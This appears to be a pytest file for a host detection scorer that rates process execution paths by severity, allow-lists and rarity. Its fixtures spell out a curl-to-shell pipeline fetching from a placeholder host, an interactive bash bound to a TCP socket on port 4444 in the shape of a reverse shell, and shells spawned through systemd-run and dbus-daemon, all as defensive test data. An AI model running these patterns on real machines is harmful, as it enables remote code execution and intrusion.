"""Scoring rules on hand-made paths: baseline effects, history, rarity, severities."""

from __future__ import annotations

from collections.abc import Sequence

from fleetctl.detection import Baseline, ExecutionPath, Prevalence, build_paths, score_path
from fleetctl.detection.scoring import severity_for
from tests.detection.rows import BASE, BASE_STDIO, Row, proc, snapshot, stdio


def path_of(
    pid: int, processes: Sequence[Row], channels: Sequence[Row] = (), **more: Sequence[Row]
) -> ExecutionPath:
    return next(
        p for p in build_paths(snapshot(processes, channels, "h1", **more)) if p.child.pid == pid
    )


def codes(
    path: ExecutionPath, baseline: Baseline, parent_history: set[str] | None = None
) -> set[str]:
    return {r.code for r in score_path(path, baseline, parent_history=parent_history).reasons}


def test_severity_thresholds() -> None:
    assert [severity_for(s) for s in (0, 19, 20, 39, 40, 59, 60, 79, 80, 100)] == [
        "info",
        "info",
        "low",
        "low",
        "medium",
        "medium",
        "high",
        "high",
        "critical",
        "critical",
    ]


def test_ssh_session_shell_is_allowed(baseline: Baseline) -> None:
    score = score_path(path_of(601, BASE, BASE_STDIO), baseline)
    assert (score.severity, score.allowed_by) == ("info", "ssh-sessions")


def test_journal_socket_on_service_stdout_is_expected(baseline: Baseline) -> None:
    procs = [
        *BASE,
        proc(10, 1, "/usr/lib/systemd/systemd-journald", "journald", uid=0),
        proc(710, 1, "/usr/bin/bash", "/bin/bash /usr/local/bin/job.sh", uid=0),
    ]
    channels = [
        stdio(710, 0, "null", "/dev/null"),
        *(
            stdio(710, fd, "unix", "/run/systemd/journal/stdout", mode="rw", partner=10)
            for fd in (1, 2)
        ),
    ]
    path = path_of(710, procs, channels)
    assert path.feeds  # a unix socket to a process outside the lineage ...
    score = score_path(path, baseline)
    assert score.allowed_by == "service-managers"  # ... but on an expected path
    assert score.severity == "info"


def test_allowed_pair_does_not_hide_a_foreign_feed(baseline: Baseline) -> None:
    """systemd-run --pipe: the service's stdio is partnered with a non-ancestor (scenario 12)."""
    procs = [
        *BASE,
        proc(1000, 1, "/usr/lib/systemd/systemd", "systemd --user"),
        proc(1001, 1000, "/usr/bin/dash", "/bin/sh -c id; sleep 60"),
        proc(1002, 601, "/usr/bin/systemd-run", "systemd-run --user --pipe sh"),
    ]
    channels = [stdio(1001, 0, "pipe", partner=1002), stdio(1001, 1, "pipe", partner=1002)]
    path = path_of(1001, procs, channels)
    score = score_path(path, baseline, parent_history={"dbus-daemon", "pipewire"})
    assert score.allowed_by is None
    assert {"child_shell", "foreign_pipe", "parent_new_child_class"} <= {
        r.code for r in score.reasons
    }
    assert score.severity in ("medium", "high", "critical")


def test_dbus_daemon_starting_a_shell_is_not_a_dbus_helper(baseline: Baseline) -> None:
    procs = [
        *BASE,
        proc(1100, 601, "/usr/bin/dbus-daemon", "dbus-daemon --session"),
        proc(1101, 1100, "/usr/bin/dash", "/bin/sh -c id > /tmp/out"),
    ]
    listeners = [
        {
            "pid": "1100",
            "name": "dbus-daemon",
            "process_path": "/usr/bin/dbus-daemon",
            "cmdline": "",
            "uid": "1000",
            "path": "/tmp/fleetctl-bus/bus",
            "fd": "3",
            "socket": "0",
        }
    ]
    score = score_path(path_of(1101, procs, unix_listeners=listeners), baseline)
    assert {"child_shell", "parent_ipc_server", "temp_location"} <= {r.code for r in score.reasons}
    assert score.severity in ("medium", "high", "critical")


def test_curl_into_shell_is_quiet_only_in_ci(baseline: Baseline) -> None:
    def pipeline(root: list[dict[str, str]], top: int) -> ExecutionPath:
        procs = [
            *root,
            proc(1200, top, "/usr/bin/dash", "sh -c curl -sSf https://x | sh"),
            proc(1201, 1200, "/usr/bin/curl", "curl -sSf https://x"),
            proc(1202, 1200, "/usr/bin/dash", "sh"),
        ]
        return path_of(1202, procs, [stdio(1202, 0, "pipe", partner=1201)])

    outside = score_path(pipeline(BASE, 601), baseline)
    assert "relay_download" in {r.code for r in outside.reasons}
    assert outside.severity == "medium"
    ci = [
        *BASE,
        proc(1300, 1, "/usr/bin/gitlab-runner", "gitlab-runner run", uid=0),
        proc(1301, 1300, "/usr/bin/bash", "bash --login", uid=0),
    ]
    inside = score_path(pipeline(ci, 1301), baseline)
    assert (inside.allowed_by, inside.severity) == ("ci-pipe-to-shell", "info")


def test_parent_history_and_shell_parents(baseline: Baseline) -> None:
    procs = [*BASE, proc(1400, 700, "/usr/bin/dash", "/bin/sh -c uname -a", uid=33)]
    path = path_of(1400, procs)
    assert "parent_new_child_class" in codes(path, baseline, parent_history={"python3.11"})
    assert "parent_new_child_class" not in codes(path, baseline, parent_history={"sh", "dash"})
    assert "parent_new_child_class" not in codes(path, baseline, parent_history=None)
    # A shell starting a shell is ordinary, whatever the history says.
    nested = path_of(1401, [*procs, proc(1401, 1400, "/usr/bin/bash", "bash", uid=33)])
    assert "parent_new_child_class" not in codes(nested, baseline, parent_history={"uname"})


def test_rarity_ranks_only_what_already_alerts(baseline: Baseline) -> None:
    procs = [*BASE, proc(1500, 601, "/usr/bin/bash", "bash -i")]
    channels = [
        stdio(1500, fd, "tcp", "10.0.0.5:4000->10.0.0.9:4444", mode="rw") for fd in (0, 1, 2)
    ]
    loud = path_of(1500, procs, channels)
    rare = score_path(loud, baseline, prevalence=Prevalence(1, 5000))
    common = score_path(loud, baseline, prevalence=Prevalence(4000, 5000))
    assert rare.score > common.score
    quiet = path_of(1501, [*BASE, proc(1501, 700, "/usr/bin/uptime", "uptime", uid=33)])
    assert score_path(quiet, baseline, prevalence=Prevalence(1, 5000)).score == 0
    assert Prevalence(1, 5000).rarity == 1 - 1 / 5000 and Prevalence(0, 0).rarity == 0.0


def test_intrinsic_points_leave_out_what_depends_on_novelty(baseline: Baseline) -> None:
    """Learning trusts only novelty, so the points that hold whatever was seen before
    (``Score.intrinsic``) decide whether a path may be learned."""
    procs = [*BASE, proc(1600, 700, "/usr/bin/dash", "/bin/sh -c uname -a", uid=33)]
    fresh = score_path(path_of(1600, procs), baseline, parent_history={"convert"})
    assert {r.code: r.novelty for r in fresh.reasons} == {
        "child_shell": False,
        "parent_new_child_class": True,
    }
    assert (fresh.intrinsic, fresh.intrinsic_severity) == (25, "low")
    assert fresh.score == 40 and fresh.severity == "medium"  # medium only for being new
    channels = [
        stdio(1601, fd, "tcp", "10.0.0.5:4000->10.0.0.9:4444", mode="rw") for fd in (0, 1, 2)
    ]
    shell = path_of(1601, [*BASE, proc(1601, 601, "/usr/bin/bash", "bash -i")], channels)
    rare = score_path(shell, baseline, prevalence=Prevalence(1, 50))
    points = {r.code: r.points for r in rare.reasons}
    assert points["rarity"] == 10 and rare.intrinsic == rare.score - 10
    assert rare.intrinsic_severity == "high"  # a shell on a TCP socket, however common
